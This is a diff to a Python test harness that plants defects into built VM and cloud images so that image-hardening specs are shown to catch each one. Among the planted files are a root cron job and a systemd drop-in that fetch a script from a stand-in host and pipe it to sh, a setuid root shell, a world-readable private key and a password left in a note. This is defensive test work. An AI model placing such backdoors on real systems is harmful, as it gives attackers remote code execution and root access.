@@ -10,6 +10,7 @@ rows share a spec that must fail, so every row is shown to be caught on its own.
 
 from __future__ import annotations
 
+import os
 import re
 import subprocess
 import tempfile
@@ -374,6 +375,10 @@ def pv_interface_names(root: Path, kit: Kit) -> None:
     _edit(root, GRUB_CONF, r" net\.ifnames=0", "", 0)
 
 
+def interface_names(root: Path, kit: Kit) -> None:
+    _edit(root, EXTLINUX, r" net\.ifnames=0", "", 0)
+
+
 # -- permissions -------------------------------------------------------------------------------
 def world_writable_usr(root: Path, kit: Kit) -> None:
     target = _path(root, "/usr/local/bin")
@@ -418,6 +423,74 @@ def vmdk_one_block_differs(vmdk: Path, kit: Kit) -> None:
         raw.unlink(missing_ok=True)
 
 
+# --- files nobody explains (issue 21, item 1): caught by specs/common/test_explained.py ------
+
+
+def apt_proxy(root: Path, kit: Kit) -> None:
+    _write(root, "/etc/apt/apt.conf.d/99proxy", 'Acquire::http::Proxy "http://10.0.2.2:3128";\n')
+
+
+def cron_beacon(root: Path, kit: Kit) -> None:
+    _write(root, "/etc/cron.d/beacon", "*/5 * * * * root curl -s http://198.51.100.7/b | sh\n")
+
+
+def profile_env(root: Path, kit: Kit) -> None:
+    _write(root, "/etc/profile.d/build-env.sh", "export http_proxy=http://10.0.2.2:3128\n")
+
+
+def ssh_client_config(root: Path, kit: Kit) -> None:
+    _write(root, "/etc/ssh/ssh_config.d/build.conf", "Host *\n  StrictHostKeyChecking no\n")
+
+
+def service_drop_in(root: Path, kit: Kit) -> None:
+    _write(
+        root,
+        "/etc/systemd/system/cloud-init.service.d/override.conf",
+        "[Service]\nExecStartPre=/bin/sh -c 'curl -s http://198.51.100.7/c | sh'\n",
+    )
+
+
+def fstab_mount(root: Path, kit: Kit) -> None:
+    _append(root, "/etc/fstab", "10.0.2.2:/export\t/mnt\tnfs\tdefaults,nofail\t0\t0\n")
+
+
+def crash_dump(root: Path, kit: Kit) -> None:
+    dump = _path(root, "/var/crash/core.sshd.4242")
+    dump.parent.mkdir(parents=True, exist_ok=True)
+    with dump.open("wb") as handle:  # 72 MiB of a core file: no package owns it, and it is big
+        handle.write(b"\x7fELF" + bytes(4092))
+        handle.write(os.urandom(1 << 20) * 72)
+
+
+def other_home_leftover(root: Path, kit: Kit) -> None:
+    _write(root, "/home/admin/notes.txt", "build password: hunter2\n")
+
+
+def setuid_shell(root: Path, kit: Kit) -> None:
+    shell = _path(root, "/usr/local/bin/rootsh")
+    shell.write_bytes((root / "usr/bin/dash").read_bytes())
+    shell.chmod(0o4755)
+
+
+def random_seed(root: Path, kit: Kit) -> None:
+    _write(root, "/var/lib/systemd/random-seed", "\x17" * 512, 0o600)
+
+
+def world_writable_drop(root: Path, kit: Kit) -> None:
+    drop = _path(root, "/srv/drop")
+    drop.mkdir()
+    drop.chmod(0o777)
+
+
+def readable_private_key(root: Path, kit: Kit) -> None:
+    _write(
+        root,
+        "/etc/ssl/private/build.key",
+        "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----\n",
+        0o644,
+    )
+
+
 @dataclass(frozen=True)
 class Defect:
     """One planted defect: where it goes, how, and which specs it must fail."""
@@ -430,12 +503,37 @@ class Defect:
     )
     target: str = "disk"  # "disk": the image's disk (and the box's box.img); "box": the box
     # itself; "vmdk": aws-hvm's VMDK alone
+    #: spec -> a fragment its failure message must hold: rows of one copy may share a spec
+    #: only when each names what it must say there (the path it planted)
+    fragments: tuple[tuple[str, str], ...] = ()
 
 
 def _d(
-    image: str, inject: Injection, *specs: str, mode: str = "auto", target: str = "disk"
+    image: str,
+    inject: Injection,
+    *specs: str,
+    mode: str = "auto",
+    target: str = "disk",
+    says: dict[str, str] | None = None,
 ) -> Defect:
-    return Defect(image, inject, frozenset(specs), mode, target)
+    return Defect(image, inject, frozenset(specs), mode, target, tuple((says or {}).items()))
+
+
+#: the specs of specs/common/test_explained.py, each of which any planted file may fail (as
+#: parity may in a derived image): a row that names one must see it fail with its fragment
+EXPLAINED = "test_every_file_is_owned_declared_or_runtime_state"
+PRIVILEGE = "test_privilege_only_where_declared"
+WRITABLE = "test_nothing_world_writable_without_the_sticky_bit"
+SECRETS = "test_no_secret_readable_by_every_user"
+BUDGET = "test_what_no_package_owns_fits_the_budget"
+CATCH_ALL = frozenset({EXPLAINED, PRIVILEGE, WRITABLE, SECRETS, BUDGET})
+
+
+def _x(image: str, inject: Injection, path: str, *more: tuple[str, str]) -> Defect:
+    """A file nobody explains at `path`: the explained spec names it (and `more` specs each
+    name what they must)."""
+    says = {EXPLAINED: f"{path}: unowned", **dict(more)}
+    return _d(image, inject, *says, says=says)
 
 
 M, V, H, P = "master", "vagrant", "aws-hvm", "aws-paravirt"
@@ -445,6 +543,19 @@ OFF = "offline"
 # derived image of a group with a defect), mode
 # fmt: off
 DEFECTS: dict[str, Defect] = {
+    # files nobody explains, one class per row (the explained specs name each path)
+    "master-apt-proxy": _x(M, apt_proxy, "/etc/apt/apt.conf.d/99proxy"),
+    "master-cron-job": _x(M, cron_beacon, "/etc/cron.d/beacon"),
+    "master-random-seed": _d(M, random_seed, "test_no_shared_random_seed_or_timer_stamps"),
+    "master-setuid-shell": _x(M, setuid_shell, "/usr/local/bin/rootsh", (PRIVILEGE, "/usr/local/bin/rootsh: setuid")),
+    "vagrant-profile-env": _x(V, profile_env, "/etc/profile.d/build-env.sh"),
+    "vagrant-ssh-client-config": _x(V, ssh_client_config, "/etc/ssh/ssh_config.d/build.conf"),
+    "vagrant-world-writable-drop": _x(V, world_writable_drop, "/srv/drop", (WRITABLE, "/srv/drop: world-writable without the sticky bit")),
+    "aws-hvm-service-drop-in": _x(H, service_drop_in, "/etc/systemd/system/cloud-init.service.d/override.conf"),
+    "aws-hvm-fstab-mount": _d(H, fstab_mount, EXPLAINED, says={EXPLAINED: "/etc/fstab: holds lines not declared"}),
+    "aws-hvm-readable-private-key": _x(H, readable_private_key, "/etc/ssl/private/build.key", (SECRETS, "/etc/ssl/private/build.key: a secret readable by every user")),
+    "aws-paravirt-crash-dump": _x(P, crash_dump, "/var/crash/core.sshd.4242", (BUDGET, "/var/crash/core.sshd.4242 (")),
+    "aws-paravirt-other-home": _x(P, other_home_leftover, "/home/admin/notes.txt"),
     # master, booted with the build key
     "master-second-uid-0": _d(M, second_uid0, "test_only_root_has_uid_0"),
     "master-root-build-script": _d(M, root_build_script, "test_root_home_holds_only_its_skeleton"),
@@ -514,5 +625,84 @@ DEFECTS: dict[str, Defect] = {
     "aws-paravirt-build-key": _d(P, build_key_for_root, "test_no_build_key", "test_root_authorized_keys_only_a_newline"),
     "aws-paravirt-sudoers-rule": _d(P, sudoers_appended_rule, "test_sudo_rules_are_declared"),
     "aws-paravirt-empty-password": _d(P, empty_password, "test_no_account_has_a_password"),
+    # the same defects in the other image types (issue 21, item 4: every (spec, image) pair
+    # shown to fail); a defect that would stop a boot or a login goes into the offline copy
+    "vagrant-random-seed": _d(V, random_seed, "test_no_shared_random_seed_or_timer_stamps"),
+    "aws-hvm-random-seed": _d(H, random_seed, "test_no_shared_random_seed_or_timer_stamps"),
+    "aws-paravirt-random-seed": _d(P, random_seed, "test_no_shared_random_seed_or_timer_stamps"),
+    "vagrant-second-uid-0": _d(V, second_uid0, "test_only_root_has_uid_0"),
+    "aws-hvm-second-uid-0": _d(H, second_uid0, "test_only_root_has_uid_0"),
+    "aws-paravirt-second-uid-0": _d(P, second_uid0, "test_only_root_has_uid_0"),
+    "aws-hvm-root-build-script": _d(H, root_build_script, "test_root_home_holds_only_its_skeleton"),
+    "aws-paravirt-root-build-script": _d(P, root_build_script, "test_root_home_holds_only_its_skeleton"),
+    "vagrant-world-writable-usr": _d(V, world_writable_usr, "test_nothing_world_writable_in_system_trees"),
+    "aws-paravirt-world-writable-usr": _d(P, world_writable_usr, "test_nothing_world_writable_in_system_trees"),
+    "aws-hvm-apt-lists": _d(H, apt_lists, "test_package_metadata_clean"),
+    "aws-paravirt-apt-lists": _d(P, apt_lists, "test_package_metadata_clean"),
+    "vagrant-permit-root-login": _d(V, permit_root_login, "test_root_login_by_key_only"),
+    "aws-hvm-permit-root-login": _d(H, permit_root_login, "test_root_login_by_key_only"),
+    "aws-paravirt-permit-root-login": _d(P, permit_root_login, "test_root_login_by_key_only"),
+    "vagrant-password-authentication": _d(V, password_authentication, "test_password_authentication_off"),
+    "aws-hvm-password-authentication": _d(H, password_authentication, "test_password_authentication_off"),
+    "aws-paravirt-password-authentication": _d(P, password_authentication, "test_password_authentication_off"),
+    "vagrant-var-tmp-leftover": _d(V, tmp_leftover, "test_temporary_folders_empty"),
+    "aws-hvm-var-tmp-leftover": _d(H, tmp_leftover, "test_temporary_folders_empty"),
+    "aws-paravirt-var-tmp-leftover": _d(P, tmp_leftover, "test_temporary_folders_empty"),
+    "vagrant-dangling-resolv-conf": _d(V, dangling_resolv_conf, "test_resolv_conf_has_no_build_resolver", "test_resolv_conf_resolves"),
+    "aws-hvm-build-journal": _d(H, build_journal, "test_no_build_logins_or_journals"),
+    "aws-paravirt-build-journal": _d(P, build_journal, "test_no_build_logins_or_journals"),
+    "vagrant-kernel-root-stale-uuid": _d(V, kernel_root_stale_uuid, "test_kernel_root_is_the_root_filesystem", mode=OFF),
+    "aws-paravirt-kernel-root-stale-uuid": _d(P, kernel_root_stale_uuid, "test_kernel_root_is_the_root_filesystem"),
+    "vagrant-sshd-disabled": _d(V, sshd_disabled, "test_sshd_enabled", mode=OFF),
+    "aws-hvm-sshd-disabled": _d(H, sshd_disabled, "test_sshd_enabled", mode=OFF),
+    "aws-paravirt-sshd-disabled": _d(P, sshd_disabled, "test_sshd_enabled"),
+    "vagrant-fstab-device-node": _d(V, fstab_device, "test_fstab_does_not_name_a_device_node", "test_fstab_root_is_the_root_filesystem", mode=OFF),
+    "aws-hvm-fstab-device-node": _d(H, fstab_device, "test_fstab_does_not_name_a_device_node", "test_fstab_root_is_the_root_filesystem", mode=OFF),
+    "aws-paravirt-fstab-device-node": _d(P, fstab_device, "test_fstab_does_not_name_a_device_node", "test_fstab_root_is_the_root_filesystem"),
+    "vagrant-host-keys-left": _d(V, host_keys_left, "test_no_ssh_host_keys", mode=OFF),
+    "aws-paravirt-host-keys-left": _d(P, host_keys_left, "test_no_ssh_host_keys"),
+    "master-sudoers-d-build-rule": _d(M, sudoers_d_build_rule, "test_sudo_rules_are_declared"),
+    "aws-hvm-sudoers-d-build-rule": _d(H, sudoers_d_build_rule, "test_sudo_rules_are_declared"),
+    "master-build-user": _d(M, build_user, "test_login_users_are_declared"),
+    "aws-paravirt-build-user": _d(P, build_user, "test_login_users_are_declared"),
+    "master-machine-id": _d(M, machine_id, "test_machine_id_empty"),
+    "aws-hvm-machine-id": _d(H, machine_id, "test_machine_id_empty"),
+    "aws-paravirt-machine-id": _d(P, machine_id, "test_machine_id_empty"),
+    "master-dhcp-lease": _d(M, dhcp_lease, "test_no_dhcp_leases"),
+    "aws-hvm-dhcp-lease": _d(H, dhcp_lease, "test_no_dhcp_leases"),
+    "aws-paravirt-dhcp-lease": _d(P, dhcp_lease, "test_no_dhcp_leases"),
+    "master-root-password": _d(M, root_password, "test_no_account_has_a_password", "test_root_password_locked"),
+    "aws-hvm-root-password": _d(H, root_password, "test_no_account_has_a_password", "test_root_password_locked"),
+    "master-guest-additions-iso": _d(M, guest_additions_iso, "test_no_guest_additions_iso"),
+    "aws-hvm-guest-additions-iso": _d(H, guest_additions_iso, "test_no_guest_additions_iso"),
+    "aws-paravirt-guest-additions-iso": _d(P, guest_additions_iso, "test_no_guest_additions_iso"),
+    "aws-paravirt-pinned-mac": _d(P, pinned_mac, "test_no_interface_pinned_to_the_build_network"),
+    "aws-paravirt-cloud-init-disabled": _d(P, cloud_init_disabled, "test_cloud_init_enabled"),
+    "master-cloud-init-state": _d(M, cloud_init_state, "test_cloud_init_state_clean", mode=OFF),
+    "vagrant-cloud-init-state": _d(V, cloud_init_state, "test_cloud_init_state_clean", mode=OFF),
+    "aws-paravirt-cloud-init-state": _d(P, cloud_init_state, "test_cloud_init_state_clean"),
+    "aws-hvm-no-xen-blkfront": _d(H, no_xen_blkfront, "test_xen_blkfront_in_initramfs", mode=OFF),
+    "master-interface-names": _d(M, interface_names, "test_classic_interface_names_on_kernel_line", mode=OFF),
+    "vagrant-interface-names": _d(V, interface_names, "test_classic_interface_names_on_kernel_line", mode=OFF),
+    "aws-hvm-interface-names": _d(H, interface_names, "test_classic_interface_names_on_kernel_line", mode=OFF),
+    "master-nscd-disabled": _d(M, nscd_disabled, "test_nscd_installed_and_enabled"),
+    "vagrant-nscd-disabled": _d(V, nscd_disabled, "test_nscd_installed_and_enabled"),
+    "aws-hvm-nscd-disabled": _d(H, nscd_disabled, "test_nscd_installed_and_enabled"),
+    "master-root-fs-type": _d(M, fstab_wrong_type, "test_root_filesystem_type", mode=OFF),
+    "vagrant-root-fs-type": _d(V, fstab_wrong_type, "test_root_filesystem_type", mode=OFF),
+    "aws-hvm-root-fs-type": _d(H, fstab_wrong_type, "test_root_filesystem_type", mode=OFF),
+    # the whole-tree checks in every image type (each names its own path)
+    "vagrant-setuid-shell": _x(V, setuid_shell, "/usr/local/bin/rootsh", (PRIVILEGE, "/usr/local/bin/rootsh: setuid")),
+    "aws-hvm-setuid-shell": _x(H, setuid_shell, "/usr/local/bin/rootsh", (PRIVILEGE, "/usr/local/bin/rootsh: setuid")),
+    "aws-paravirt-setuid-shell": _x(P, setuid_shell, "/usr/local/bin/rootsh", (PRIVILEGE, "/usr/local/bin/rootsh: setuid")),
+    "master-world-writable-drop": _x(M, world_writable_drop, "/srv/drop", (WRITABLE, "/srv/drop: world-writable without the sticky bit")),
+    "aws-hvm-world-writable-drop": _x(H, world_writable_drop, "/srv/drop", (WRITABLE, "/srv/drop: world-writable without the sticky bit")),
+    "aws-paravirt-world-writable-drop": _x(P, world_writable_drop, "/srv/drop", (WRITABLE, "/srv/drop: world-writable without the sticky bit")),
+    "master-readable-private-key": _x(M, readable_private_key, "/etc/ssl/private/build.key", (SECRETS, "/etc/ssl/private/build.key: a secret readable by every user")),
+    "vagrant-readable-private-key": _x(V, readable_private_key, "/etc/ssl/private/build.key", (SECRETS, "/etc/ssl/private/build.key: a secret readable by every user")),
+    "aws-paravirt-readable-private-key": _x(P, readable_private_key, "/etc/ssl/private/build.key", (SECRETS, "/etc/ssl/private/build.key: a secret readable by every user")),
+    "master-crash-dump": _x(M, crash_dump, "/var/crash/core.sshd.4242", (BUDGET, "/var/crash/core.sshd.4242 (")),
+    "vagrant-crash-dump": _x(V, crash_dump, "/var/crash/core.sshd.4242", (BUDGET, "/var/crash/core.sshd.4242 (")),
+    "aws-hvm-crash-dump": _x(H, crash_dump, "/var/crash/core.sshd.4242", (BUDGET, "/var/crash/core.sshd.4242 (")),
 }
 # fmt: on
